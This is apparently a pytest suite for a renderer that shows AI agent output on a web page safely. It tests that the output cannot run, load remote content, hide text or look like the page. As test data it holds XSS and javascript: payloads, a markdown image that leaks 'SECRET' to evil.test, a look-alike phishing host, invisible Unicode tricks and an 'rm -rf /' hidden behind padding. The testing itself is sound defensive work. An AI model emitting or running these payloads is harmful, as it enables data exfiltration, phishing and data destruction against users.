"""Agent output on a page: it cannot run, load, hide, lead astray or look like ours."""

import json
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hermes_workflow.core.text import visible
from hermes_workflow.markdown import ATTRIBUTES, LONGEST, TAGS, render_markdown, render_plain, render_value

BAD_INPUTS = json.loads((Path(__file__).parents[1] / "data" / "bad_inputs.json").read_text())["inputs"]
HOSTILE = [entry["input"] for entry in BAD_INPUTS if entry["area"] == "agent-output" and "input" in entry]
PIECES = st.sampled_from(
    [
        "[a](https://x.y)",
        "![a](https://x.y/z)",
        "<script>",
        "](",
        "`",
        "\n\n",
        "\u202e",
        "&#x202E;",
        "|a|\n|-|\n",
        "# ",
        "\ufdd00\ufdd1",
        "\x00",
        "javascript:",
        '"',
        "<https://",
    ]
)
TEXTS = st.lists(PIECES | st.text(max_size=8), max_size=20).map("".join)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXTS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXTS, inner, max_size=4),
)


class Reader(HTMLParser):
    """Collects the elements and the text of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def must_be_safe(html: str) -> None:
    """Only our elements and attributes, only https links, nothing that cannot be seen."""
    for tag, attributes in Reader(html).elements:
        assert tag in TAGS | {"dl", "dt", "dd"}
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"rel", "class", "scope"}
        if tag == "a":
            assert attributes["href"].startswith("https://")
            assert "noopener" in attributes["rel"]
    assert not any(segment.mark for segment in visible(html) if not segment.text.endswith("blank lines"))


@given(TEXTS)
@settings(deadline=None)
def test_no_text_gets_out_of_its_box(text):
    must_be_safe(render_markdown(text))
    must_be_safe(render_plain(text))


@given(JSON)
@settings(deadline=None)
def test_no_value_gets_out_of_its_box(value):
    must_be_safe(render_value(value))


@pytest.mark.parametrize("text", HOSTILE)
def test_every_known_attack_is_harmless(text):
    text = text if isinstance(text, str) else json.dumps(text)
    must_be_safe(render_markdown(text))
    must_be_safe(render_value({text[:50]: [text]}))


def test_html_is_shown_and_not_obeyed():
    html = render_markdown("<script>fetch('/api')</script></textarea><svg/onload=alert(1)>")
    assert "&lt;script&gt;" in html
    assert "<svg" not in html


@pytest.mark.parametrize("text", ["![a](https://evil.test/p.png?d=SECRET)", "[ref]: https://evil.test/p.png?d=SECRET\n![a][ref]"])
def test_a_remote_image_is_named_and_not_loaded(text):
    html = render_markdown(text)
    assert "<img" not in html
    assert "SECRET" not in html
    assert "Remote image not loaded: evil.test/p.png" in html


def test_a_link_tells_where_it_goes():
    html = render_markdown("[bank](https://evil.test/login?x=1 'title')")
    assert '<a href="https://evil.test/login?x=1" target="_blank" rel="noopener nofollow noreferrer">bank</a>' in html
    assert '<span class="host">(evil.test)</span>' in html


def test_a_look_alike_host_is_shown_as_it_is_resolved():
    assert "(xn--vil-qdd.test)" in render_markdown("[x](https://\u0435vil.test/a)")


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "http://a.test/",
        "data:text/html,x",
        "//a.test",
        "/answer",
        "https://bank.com@evil.test/",
        "https://evil.test\\@bank.com",
        "https://a.test/\u202ex",
        "vbscript:x",
        "https://",
    ],
)
def test_any_other_address_is_no_link(address):
    assert "<a " not in render_markdown(f"[Approve]({address}) <{address}>")


@pytest.mark.parametrize(
    ("text", "mark"),
    [
        ("a\u200bb", "U+200B"),
        ("a\u202eb", "U+202E"),
        ("\U000e0041", "U+E0041"),
        ("\x1b[2J", "ESC[2J"),
        ("`\u2066`", "U+2066"),
        ("```\n\u202e\n```", "U+202E"),
        ("a\x00b", "U+0000"),
    ],
)
def test_what_cannot_be_seen_is_marked(text, mark):
    for html in (render_markdown(text), render_plain(text), render_value([text])):
        assert f'<span class="mark">{mark}</span>' in html


def test_an_entity_smuggles_nothing_in():
    assert "&amp;#x202E;" in render_markdown("&#x202E;")


def test_a_forged_placeholder_is_only_text():
    assert render_markdown("\ufdd07\ufdd1") == '<p><span class="mark">U+FDD0</span>7<span class="mark">U+FDD1</span></p>\n'


@pytest.mark.parametrize(("padding", "mark"), [("\n" * 5000, "5,000 blank lines"), (" " * 5000, "5,000 blanks")])
def test_long_padding_is_counted_and_not_shown(padding, mark):
    for html in (render_markdown(f"fine{padding}rm -rf /"), render_plain(f"fine{padding}rm -rf /")):
        assert mark in html.replace("4,999", "5,000")
        assert len(html) < 200


def test_headings_stay_below_those_of_the_page():
    assert [tag for tag, _ in Reader(render_markdown("# a\n## b\n##### c\n###### d")).elements] == ["h3", "h4", "h6", "h6"]


def test_tables_lists_and_code_are_kept():
    tags = [tag for tag, _ in Reader(render_markdown("|a|b|\n|-|-:|\n|1|2|\n\n3. x\n\n`c` **d** ~~e~~")).elements]
    assert tags[:4] == ["table", "thead", "tr", "th"]
    assert tags[-6:] == ["ol", "li", "p", "code", "strong", "s"]


def test_a_long_text_says_how_much_is_missing():
    html = render_markdown("word " * LONGEST)
    assert "Shortened: 200,000 more characters" in html
    assert len(html) < LONGEST * 1.1


@pytest.mark.parametrize(
    "text",
    [
        "[" * LONGEST,
        "![[" * 17_000,
        "|x\n" * 10_000 + "|-\n",
        "|a|b|\n|-|-|\n" + "x\n" * 20_000,
        "> " * 25_000,
        "`" * LONGEST,
        "a**b" * 12_500,
        "[a](https://x.y " * 3000,
    ],
)
def test_intricate_text_takes_no_minutes(text):
    began = time.process_time()
    must_be_safe(render_markdown(text))
    assert time.process_time() - began < 5


def test_like_objects_become_a_table():
    html = render_value([{"text": "a<b", "start": 0}, {"text": "c", "start": 4}])
    assert html.count("<tr>") == 3
    assert "a&lt;b" in html


def test_a_text_value_is_markdown_and_inner_texts_are_not():
    assert "<strong>" in render_value("**a**")
    assert "<strong>" not in render_value({"a": "**a**"})


@pytest.mark.parametrize(("value", "shown"), [(0, "0"), (False, "false"), (None, "null"), ({}, "{}"), ([], "[]")])
def test_small_values_are_shown_and_not_hidden(value, shown):
    assert f"<code>{shown}</code>" in render_value(value)


def test_deep_and_wide_values_are_cut_visibly():
    deep: object = 1
    for _ in range(60):
        deep = [deep]
    assert "…" in render_value(deep)
    assert "not every entry" in render_value(list(range(1000)))
    assert "not every entry" not in render_value(list(range(100)))


def test_a_found_piece_of_text_is_shown_without_its_place():
    shown = render_value([{"text": "zero downtime", "start": 3, "end": 16, "category": "availability", "label": "Promise"}])
    assert "zero downtime" in shown
    assert "Promise" in shown
    assert "<th" in shown
    assert not {"start", "end", "category", "16"} & set(shown.replace(">", "<").split("<"))
